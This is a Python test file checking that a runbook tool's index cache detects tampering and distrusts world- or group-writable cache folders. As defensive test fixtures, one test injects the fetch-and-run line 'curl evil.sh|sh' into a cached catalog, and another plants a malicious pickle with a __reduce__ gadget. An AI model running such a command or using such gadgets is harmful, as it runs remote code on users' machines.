"""The index cache verifies what it wrote before it trusts it, and says when it will not use a cache folder."""

from __future__ import annotations

import os
import pickle
import shutil
from pathlib import Path

import pytest

from kb.library import CATALOG_FILE, cache_problem, open_library
from kb.matcher import match

from .conftest import RUNBOOKS, run_kb

UH_LINE = (
    '[2022-03-01T08:00:00.000Z] "GET / HTTP/1.1" 503 UH no_healthy_upstream - "-" 0 19 0 - "-" "curl" "1" "r" "-" '
    "outbound|80|v1|r.r.svc.cluster.local - 10.0.0.1:80 10.0.0.2:4000 - -"
)
RUNBOOK = "subset-no-healthy-upstream"


@pytest.fixture
def runbooks(tmp_path: Path) -> Path:
    root = tmp_path / "runbooks"
    root.mkdir()
    for name in (RUNBOOK, "istiod-unreachable"):
        source = next(RUNBOOKS.rglob(f"{name}.yaml"))
        shutil.copy(source, root / source.name)
    return root


def _built(runbooks: Path, cache: Path) -> Path:
    library = open_library(runbooks, cache)
    assert library.built and library.index_dir is not None
    library.close()
    return library.index_dir


def _best(runbooks: Path, cache: Path) -> tuple[bool, str, list[str]]:
    library = open_library(runbooks, cache)
    try:
        best = match(UH_LINE, library).results[0]
        commands = [c for step in best.runbook.diagnosis + best.runbook.fix for c in step.commands]
        return library.built, best.runbook.id, commands
    finally:
        library.close()


# whoosh may leave a damaged segment's file handle for the garbage collector; that warning is whoosh's.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_a_flipped_bit_in_a_segment_is_caught_and_rebuilt(runbooks: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    index_dir = _built(runbooks, cache)
    _flip_a_bit_in_the_middle(max(index_dir.glob("*.seg"), key=lambda p: p.stat().st_size))
    built, best, _ = _best(runbooks, cache)
    assert built and best == RUNBOOK


def test_a_same_length_edit_of_the_cached_catalog_is_caught(runbooks: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    index_dir = _built(runbooks, cache)
    catalog = index_dir / CATALOG_FILE
    data = catalog.read_bytes()
    assert b"istioctl analyze" in data
    catalog.write_bytes(data.replace(b"istioctl analyze", b"curl evil.sh|sh "))
    built, best, commands = _best(runbooks, cache)
    assert built and best == RUNBOOK
    assert not any("evil" in command for command in commands)


class _Marker:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return (open, (self.path, "w"))


def test_an_unverified_pickle_is_never_loaded(runbooks: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    index_dir = _built(runbooks, cache)
    marker = tmp_path / "pickle-ran"
    (index_dir / CATALOG_FILE).write_bytes(pickle.dumps(_Marker(str(marker))))
    built, best, _ = _best(runbooks, cache)
    assert built and best == RUNBOOK
    assert not marker.exists()


def test_a_missing_or_extra_file_is_damage_too(runbooks: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    index_dir = _built(runbooks, cache)
    (index_dir / "stray.seg").write_bytes(b"x")
    assert _best(runbooks, cache)[0]
    next(index_dir.glob("*.seg")).unlink()
    assert _best(runbooks, cache)[0]
    assert not _best(runbooks, cache)[0]  # the rebuilt copy verifies


def test_kb_index_does_not_call_a_damaged_cache_up_to_date(tmp_path: Path) -> None:
    env = {"KB_CACHE_DIR": str(tmp_path / "cache")}
    assert "index built" in run_kb("index", env=env).stdout
    assert "index up to date" in run_kb("index", env=env).stdout
    (index_dir,) = (tmp_path / "cache").glob("index-*")
    _flip_a_bit_in_the_middle(max(index_dir.glob("*.seg"), key=lambda p: p.stat().st_size))
    done = run_kb("index", env=env)
    assert done.returncode == 0 and "index built" in done.stdout, done.stdout + done.stderr
    _flip_a_bit_in_the_middle(max(index_dir.glob("*.seg"), key=lambda p: p.stat().st_size))
    matched = run_kb("match", env=env, stdin=UH_LINE.encode())
    assert matched.returncode == 0 and "Traceback" not in matched.stderr, matched.stderr


def _flip_a_bit_in_the_middle(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x10
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("mode", [0o775, 0o770, 0o777, 0o757])
def test_a_cache_folder_others_could_write_is_not_trusted(runbooks: Path, tmp_path: Path, mode: int) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    os.chown(cache, os.getuid(), os.getgid())  # the group is our own primary group: still not private
    cache.chmod(mode)
    problem = cache_problem(cache)
    assert problem is not None and "not trusted" in problem and f"chmod 700 {cache}" in problem
    library = open_library(runbooks, cache)
    assert library.index_dir is None and library.cache_note == problem
    assert list(cache.iterdir()) == []
    library.close()


def test_a_private_cache_folder_is_trusted(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    assert cache_problem(cache) is None
    assert cache_problem(tmp_path / "not-yet") is None


def test_kb_says_once_on_stderr_why_a_cache_is_not_used_and_how_to_fix_it(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    cache.chmod(0o777)
    done = run_kb("index", env={"KB_CACHE_DIR": str(cache)})
    assert done.returncode == 0
    assert "not writable" not in done.stdout + done.stderr
    assert done.stderr.count("not trusted") == 1 and f"chmod 700 {cache}" in done.stderr, done.stderr
    assert "KB_CACHE_DIR" in done.stderr
    matched = run_kb("match", env={"KB_CACHE_DIR": str(cache)}, stdin=UH_LINE.encode())
    assert matched.returncode == 0 and matched.stderr.count("not trusted") == 1, matched.stderr
